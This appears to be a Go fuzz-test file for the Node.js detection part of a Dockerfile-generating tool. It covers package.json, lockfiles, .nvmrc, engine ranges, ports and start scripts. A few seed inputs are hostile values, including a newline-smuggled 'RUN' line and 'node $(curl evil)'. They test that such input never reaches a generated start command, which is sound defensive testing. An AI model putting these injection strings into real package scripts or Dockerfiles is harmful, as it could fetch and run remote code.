package node

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/Masterminds/semver/v3"

	"github.com/dockslim/dockslim/detect/internal/core"
	"github.com/dockslim/dockslim/detect/internal/repo"
	"github.com/dockslim/dockslim/internal/versions"
)

// packageJSONSeeds are package.json bodies from the fixtures.
var packageJSONSeeds = []string{
	`{"name": "minimal"}`,
	`{"name": "svc", "scripts": {"build": "tsc", "start": "npm run start:prod", "start:prod": "cross-env NODE_ENV=production node dist/index.js"}, "dependencies": {"koa": "^2"}}`,
	`{"name": "web", "scripts": {"build": "next build", "start": "next start -p 4000"}, "dependencies": {"next": "15.0.3", "sharp": "^0.32.6"}}`,
	`{"name": 12, "scripts": 5, "engines": "x", "dependencies": {"express": "^4.0.0", "bad": 1}, "workspaces": 3}`,
	`{"workspaces": {"packages": ["packages/*"]}, "packageManager": "pnpm@9.12.3+sha512.abc", "engines": {"node": ">=18 <23"}}`,
	`{"scripts": {"start\nRUN x": "node evil.js", "start": "node $(curl evil)"}, "volta": {"node": "v20.1.0"}}`,
	"\ufeff{\"main\": \"./lib/server.js\"}",
	`{"a": }`, `[1]`, `null`, "",
}

// FuzzParsePackageJSON: parsing never panics; an error is a *repo.FileError
// with a line; a success has every map allocated.
func FuzzParsePackageJSON(f *testing.F) {
	for _, s := range packageJSONSeeds {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		p, _, err := parsePackageJSON("package.json", data)
		if err != nil {
			var fe *repo.FileError
			if !errors.As(err, &fe) || fe.Line < 1 || fe.Col < 1 {
				t.Fatalf("error %v is not a positioned *repo.FileError", err)
			}
			return
		}
		if p.Scripts == nil || p.Deps == nil || p.DevDeps == nil || p.OptDeps == nil || p.Engines == nil || p.Volta == nil {
			t.Fatalf("nil map in %+v", p)
		}
	})
}

// FuzzNodeDetect runs the whole Node detection over a small project
// whose package.json is the input: no panic, errors are *repo.FileError, and
// what reaches a Dockerfile is safe.
func FuzzNodeDetect(f *testing.F) {
	for _, s := range packageJSONSeeds {
		f.Add([]byte(s))
	}
	dir := nodeFixture(f, map[string]string{
		"tsconfig.json": `{"compilerOptions": {"outDir": "dist"}}`, "src/index.ts": "app.listen(4000)",
		"server.js": "", "next.config.js": "module.exports = {output: 'standalone'}", "vite.config.ts": "outDir: 'www'",
		"package-lock.json": `{"packages": {"node_modules/bcrypt": {"hasInstallScript": true}}}`,
	})
	f.Fuzz(func(t *testing.T, data []byte) {
		if err := os.WriteFile(filepath.Join(dir, "package.json"), data, 0o644); err != nil {
			t.Fatal(err)
		}
		facts, err := detectDir(t, dir)
		if err != nil {
			var fe *repo.FileError
			if !errors.As(err, &fe) {
				t.Fatalf("error %v is not a *repo.FileError", err)
			}
			return
		}
		checkSafeStart(t, facts.Start)
		if facts.BuildCommand != "" && !strings.HasSuffix(facts.BuildCommand, " run build") {
			t.Fatalf("build command %q", facts.BuildCommand)
		}
		if facts.Port < 1 || facts.Port > 65535 {
			t.Fatalf("port %d", facts.Port)
		}
	})
}

// checkSafeStart asserts the invariants of a start argv.
func checkSafeStart(t *testing.T, argv []string) {
	t.Helper()
	for _, w := range argv {
		if strings.ContainsAny(w, "\n\r\x00") {
			t.Fatalf("start word %q holds a line break or NUL", w)
		}
	}
	if len(argv) > 0 && !slices.Contains([]string{"node", "bun", "nginx"}, argv[0]) && !strings.HasPrefix(argv[0], "node_modules/.bin/") {
		t.Fatalf("start %q runs something other than node, bun, nginx or a dependency's command", argv)
	}
	if len(argv) > 0 && strings.HasPrefix(argv[0], "node_modules/.bin/") {
		if _, ok := safeRelPath(argv[0]); !ok {
			t.Fatalf("start %q: unsafe command path", argv)
		}
	}
}

// FuzzEnginesRange: resolving any range never panics, and a resolved
// major is an LTS line not newer than the default that the range admits.
func FuzzEnginesRange(f *testing.F) {
	for _, s := range []string{">=18 <23", "^18 || ^20", "18.x", "18 - 22", "~20.11", ">=20.0.0-0", "*", "v20", "latest", ">=21 <22", "1.2.3 - 2.3.4 || >=22"} {
		f.Add(s)
	}
	tab := versions.MustLoad()
	def, _ := strconv.Atoi(tab.Defaults[Name])
	f.Fuzz(func(t *testing.T, rng string) {
		major, err := resolveNodeRange(rng, tab)
		if err != nil {
			return
		}
		if major > def || !slices.ContainsFunc(tab.Node.LTS, func(l versions.LTSLine) bool { return l.Major == major }) {
			t.Fatalf("%q resolved to %d, not an LTS line up to %d", rng, major, def)
		}
		if _, err := semver.NewConstraint(rng); err != nil {
			t.Fatalf("%q resolved although it does not parse: %v", rng, err)
		}
	})
}

// FuzzStartScript interprets arbitrary start scripts (and a script they
// may point at): no panic, and the resulting argv is always safe.
func FuzzStartScript(f *testing.F) {
	for _, s := range [][2]string{
		{"node server.js", ""}, {"npm run serve -- --x", "nodemon --watch src app.js"}, {"ts-node src/index.ts", ""},
		{"remix-serve build/index.js", ""}, {"node a.js && node b.js", ""}, {"yarn serve", "node $(curl evil)"},
		{"cross-env A=1 B=2", ""}, {"pnpm exec pm2 start app.js", ""}, {"tsx watch --tsconfig t.json src/server.ts", "x"},
	} {
		f.Add(s[0], s[1])
	}
	dir := nodeFixture(f, startRepo)
	tab := versions.MustLoad()
	f.Fuzz(func(t *testing.T, start, serve string) {
		r, err := repo.Open(context.Background(), dir)
		if err != nil {
			t.Fatal(err)
		}
		pkg := &packageJSON{
			Scripts: map[string]string{"start": start, "serve": serve, "build": "tsc"},
			Deps:    map[string]string{"@remix-run/serve": "2", "pm2": "5"}, DevDeps: map[string]string{}, OptDeps: map[string]string{},
			Engines: map[string]string{}, Volta: map[string]string{},
		}
		d := &Details{}
		n := &project{ctx: context.Background(), r: r, tab: tab, f: core.NewFacts(Name, d), d: d, pkg: pkg, pm: "npm"}
		n.start()
		checkSafeStart(t, n.f.Start)
		if len(n.f.Start) == 0 && len(n.f.Warnings) == 0 {
			t.Fatal("no start and no warning")
		}
	})
}

// FuzzJSONC: stripping comments keeps offsets; decoding errors are
// positioned *FileErrors.
func FuzzJSONC(f *testing.F) {
	for _, s := range []string{`{"compilerOptions": {"outDir": "./dist",}, // x` + "\n}", `{"a": "/* no */"} /* tail`, `{"a": [1,],}`, "/*", `"\"`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if out := stripJSONC(data); len(out) != len(data) {
			t.Fatalf("length changed: %d → %d", len(data), len(out))
		}
		var raw rawTSConfig
		if err := unmarshalJSONC("tsconfig.json", data, &raw); err != nil {
			var fe *repo.FileError
			if !errors.As(err, &fe) || fe.Line < 1 {
				t.Fatalf("error %v is not a positioned *repo.FileError", err)
			}
		}
	})
}

// FuzzLockfiles: lockfile scanners never panic and name only valid
// packages; a malformed package-lock.json is a positioned *repo.FileError.
func FuzzLockfiles(f *testing.F) {
	f.Add([]byte(`{"packages": {"node_modules/a/node_modules/bcrypt": {"hasInstallScript": true}, "node_modules/sharp": {"version": "0.32.1"}}}`))
	f.Add([]byte("lockfileVersion: '6.0'\npackages:\n  /@s/x@1.0.0(y@2):\n    requiresBuild: true\n"))
	f.Add([]byte(`{"packages": {"hasInstallScript"`))
	f.Fuzz(func(t *testing.T, data []byte) {
		names, err := npmInstallScripts("package-lock.json", data, map[string]string{})
		if err != nil {
			var fe *repo.FileError
			if !errors.As(err, &fe) || fe.Line < 1 {
				t.Fatalf("error %v is not a positioned *repo.FileError", err)
			}
		}
		for _, n := range append(names, pnpmRequiresBuild(data)...) {
			if !validDepName(n) || prebuilt[n] {
				t.Fatalf("lockfile gave %q", n)
			}
		}
		if m := pnpmLockVersion.FindSubmatch(data); m != nil {
			_ = pnpmMajor(string(m[1]), versions.MustLoad().Node.PnpmLockfile)
		}
	})
}

// FuzzVersionFile: .nvmrc values resolve to an exact version or an LTS
// major, never anything else.
func FuzzVersionFile(f *testing.F) {
	for _, s := range []string{"v20.11.1\n", "# c\n\nlts/iron # x", "lts/-1", "node", "lts/*", "\x00"} {
		f.Add([]byte(s))
	}
	tab := versions.MustLoad()
	f.Fuzz(func(t *testing.T, data []byte) {
		v, ok := resolveNvmrc(versionFileValue(data), tab)
		if ok && (!exactVersion.MatchString(v) || strings.HasPrefix(v, "v")) {
			t.Fatalf("%q resolved to %q", data, v)
		}
	})
}

// FuzzFindPort: a found port is in 1–65535 on a line of the input.
func FuzzFindPort(f *testing.F) {
	for _, s := range []string{"app.listen(4000)", "listen({\nport: 1})", "const PORT = 99999", "process.env.PORT ?? '8'"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		p, line := findPort(data)
		if p == 0 {
			return
		}
		if p < 1 || p > 65535 || line < 1 || line > strings.Count(string(data), "\n")+1 {
			t.Fatalf("port %d at line %d", p, line)
		}
	})
}

// FuzzCorepack: the packageManager field yields a known manager and an
// exact version, or an error.
func FuzzCorepack(f *testing.F) {
	for _, s := range []string{"pnpm@9.12.3+sha512.abc", "yarn@1.22.22", "yarn@4.0.0", "bun@1", "x@1.2.3"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		pm, v, err := parseCorepack(s)
		if err != nil {
			return
		}
		if !slices.Contains(Language().ManagerNames(), pm) || strings.ContainsAny(v, " \n+") {
			t.Fatalf("%q → %q %q", s, pm, v)
		}
	})
}
